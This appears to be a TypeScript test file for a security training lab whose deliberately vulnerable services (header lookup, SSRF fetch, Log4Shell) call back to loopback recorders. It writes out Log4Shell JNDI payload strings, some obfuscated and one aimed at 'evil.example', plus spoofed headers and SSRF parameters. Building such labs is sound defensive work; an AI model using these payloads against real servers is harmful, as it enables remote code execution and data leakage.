import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import dnsPacket, { type Packet } from 'dns-packet';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OOB_LAB_HOSTS, OOB_PLANTED } from '../src/oob-planted.ts';
import { expandLog4j, hostInHeader, ldapLookupMessages } from '../src/oob-services.ts';
import { type Lab, startLab } from '../src/start-lab.ts';

// The lab's call-back services against a tiny recorder standing in for the interaction
// server: DNS on 127.0.94.1 (the zone delegated to it by the lab's DNS), HTTP and LDAP on
// 127.0.94.2. Each service calls back exactly when exploited — into the zone, on loopback.

const ZONE = 'oob.recorder.test';
const ID = 'c0ffee0000000000000000000000000001';

interface Recorded {
  dns: string[];
  http: { path: string; host: string }[];
  ldap: Buffer[];
}
const seen: Recorded = { dns: [], http: [], ldap: [] };

let udp: dgram.Socket;
let httpServer: http.Server;
let ldapServer: net.Server;
let lab: Lab;

beforeAll(async () => {
  udp = dgram.createSocket('udp4');
  udp.on('message', (msg, rinfo) => {
    const q = dnsPacket.decode(msg) as Packet;
    const name = (q.questions?.[0]?.name ?? '').toLowerCase();
    seen.dns.push(name);
    // `far.` names point outside loopback: a lab service must not connect there.
    const address = name.startsWith('far.') ? '192.0.2.7' : '127.0.94.2';
    const answer = dnsPacket.encode({
      id: q.id,
      type: 'response',
      flags: dnsPacket.AUTHORITATIVE_ANSWER,
      questions: q.questions ?? [],
      answers: name.endsWith(ZONE) ? [{ type: 'A', name, ttl: 0, data: address }] : [],
    });
    udp.send(answer, rinfo.port, rinfo.address);
  });
  await new Promise<void>((resolve) => udp.bind(0, '127.0.94.1', resolve));
  httpServer = http.createServer((req, res) => {
    seen.http.push({ path: req.url ?? '', host: req.headers.host ?? '' });
    res.end('recorded');
  });
  await new Promise<void>((resolve) => httpServer.listen(0, '127.0.94.2', resolve));
  ldapServer = net.createServer((s) => {
    s.on('error', () => {});
    s.once('data', (d) => {
      seen.ldap.push(d);
      s.end();
    });
  });
  await new Promise<void>((resolve) => ldapServer.listen(0, '127.0.94.2', resolve));
  lab = await startLab({
    subnet: '127.0.253',
    dnsHost: '127.0.253.1',
    dnsPort: 0,
    oob: {
      zone: ZONE,
      nameserver: { host: '127.0.94.1', port: udp.address().port },
      httpPort: (httpServer.address() as net.AddressInfo).port,
      ldapPort: (ldapServer.address() as net.AddressInfo).port,
    },
  });
});

afterAll(async () => {
  await lab?.stop();
  await new Promise<void>((r) => udp.close(() => r()));
  httpServer.closeAllConnections();
  await new Promise<void>((r) => httpServer.close(() => r()));
  await new Promise<void>((r) => ldapServer.close(() => r()));
});

beforeEach(() => {
  seen.dns.length = 0;
  seen.http.length = 0;
  seen.ldap.length = 0;
});

/** A request to a call-back service; it answers after its call-back, so nothing is pending. */
function get(octet: number, path: string, headers: Record<string, string> = {}): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.get({ host: lab.address(octet), port: lab.portMap[80], path, headers }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
  });
}

const octetOf = (site: string) => OOB_LAB_HOSTS.find((h) => h.site === site)?.octet as number;

describe('lab call-back services', () => {
  it('publishes them in the lab DNS and lists their planted issues', async () => {
    expect(lab.services.filter((s) => s.address.endsWith('.30') || s.address.endsWith('.32'))).toHaveLength(
      2,
    );
    expect(OOB_PLANTED.map((p) => p.corpusTemplates[0])).toEqual([
      'oob-header-based-interaction',
      'oob-param-based-interaction',
      'CVE-2021-44228',
    ]);
  });

  it('(a) resolves a host name from X-Forwarded-For or Referer only when one under the zone is sent', async () => {
    const a = octetOf('header-lookup');
    expect(await get(a, '/')).toBe(200);
    expect(await get(a, '/', { 'X-Forwarded-For': 'spoofed.evil.example' })).toBe(200);
    expect(await get(a, '/other', { 'X-Forwarded-For': `spoofed.${ID}.${ZONE}` })).toBe(404);
    expect(seen.dns).toEqual([]);
    await get(a, '/', { 'X-Forwarded-For': `spoofed.${ID}.${ZONE}`, Referer: `http://${ID}.${ZONE}/ref` });
    expect(seen.dns.sort()).toEqual([`${ID}.${ZONE}`, `spoofed.${ID}.${ZONE}`]);
    expect(seen.http).toEqual([]);
  });

  it('(b) fetches the url parameter only for an http URL under the zone, only on loopback', async () => {
    const b = octetOf('ssrf-fetch');
    await get(b, '/?url=http://127.0.0.1:9/');
    await get(b, `/?u=http://${ID}.${ZONE}/`);
    expect(seen.dns).toEqual([]);
    await get(b, `/?url=${encodeURIComponent(`http://far.${ID}.${ZONE}/`)}`);
    expect(seen.dns).toEqual([`far.${ID}.${ZONE}`]);
    expect(seen.http).toEqual([]);
    seen.dns.length = 0;
    await get(b, `/?url=${encodeURIComponent(`http://${ID}.${ZONE}/x?y=1`)}`);
    expect(seen.dns).toEqual([`${ID}.${ZONE}`]);
    expect(seen.http).toEqual([{ path: '/x?y=1', host: `${ID}.${ZONE}` }]);
    expect(seen.ldap).toEqual([]);
  });

  it('(c) opens an LDAP connection for a Log4Shell string in a query value or header', async () => {
    const c = octetOf('log4j');
    await get(c, '/?x=hello', { 'User-Agent': `\${jndi:ldap://evil.example/a}` });
    expect(seen.dns).toEqual([]);
    const payload = `\${jndi:ldap://\${:-123}\${:-456}.\${hostName}.uri.${ID}.${ZONE}/a}`;
    await get(c, `/?x=${encodeURIComponent(payload)}`);
    expect(seen.dns).toEqual([`123456.logs.uri.${ID}.${ZONE}`]);
    expect(seen.ldap).toHaveLength(1);
    expect(seen.ldap[0]?.equals(ldapLookupMessages('a'))).toBe(true);
    seen.dns.length = 0;
    await get(c, '/', { 'X-Api-Version': payload.replace('.uri.', '.xapiversion.') });
    expect(seen.dns).toEqual([`123456.logs.xapiversion.${ID}.${ZONE}`]);
    expect(seen.http).toEqual([]);
  });

  it('keeps the rest of the lab DNS as it was', async () => {
    const a = await new Promise<Packet>((resolve) => {
      const s = dgram.createSocket('udp4');
      s.on('message', (m) => {
        s.close();
        resolve(dnsPacket.decode(m));
      });
      s.send(
        dnsPacket.encode({ id: 7, type: 'query', questions: [{ type: 'A', name: 'preview.acme.test' }] }),
        lab.dns.port,
        lab.dns.host,
      );
    });
    expect(a.answers?.[0]).toMatchObject({ type: 'A', data: lab.address(octetOf('ssrf-fetch')) });
    expect(seen.dns).toEqual([]);
  });
});

describe('call-back parsing', () => {
  it.each([
    ['spoofed.a.zone', 'spoofed.a.zone'],
    ['http://a.zone/ref', 'a.zone'],
    ['Mozilla/5.0 root@a.zone', 'a.zone'],
    ['for=spoofed.a.zone;by=x', undefined],
    ['10.0.0.1, 10.0.0.2', '10.0.0.1'],
  ])('host in header %s', (value, host) => {
    expect(hostInHeader(value)).toBe(host);
  });

  it('expands Log4j lookups before the JNDI address', () => {
    expect(expandLog4j(`\${jndi:ldap://\${lower:A}\${upper:b}.\${hostName}.z/x}`, 'h')).toEqual({
      host: 'ab.h.z',
      dn: 'x',
    });
    expect(expandLog4j('plain text', 'h')).toBeUndefined();
  });
});
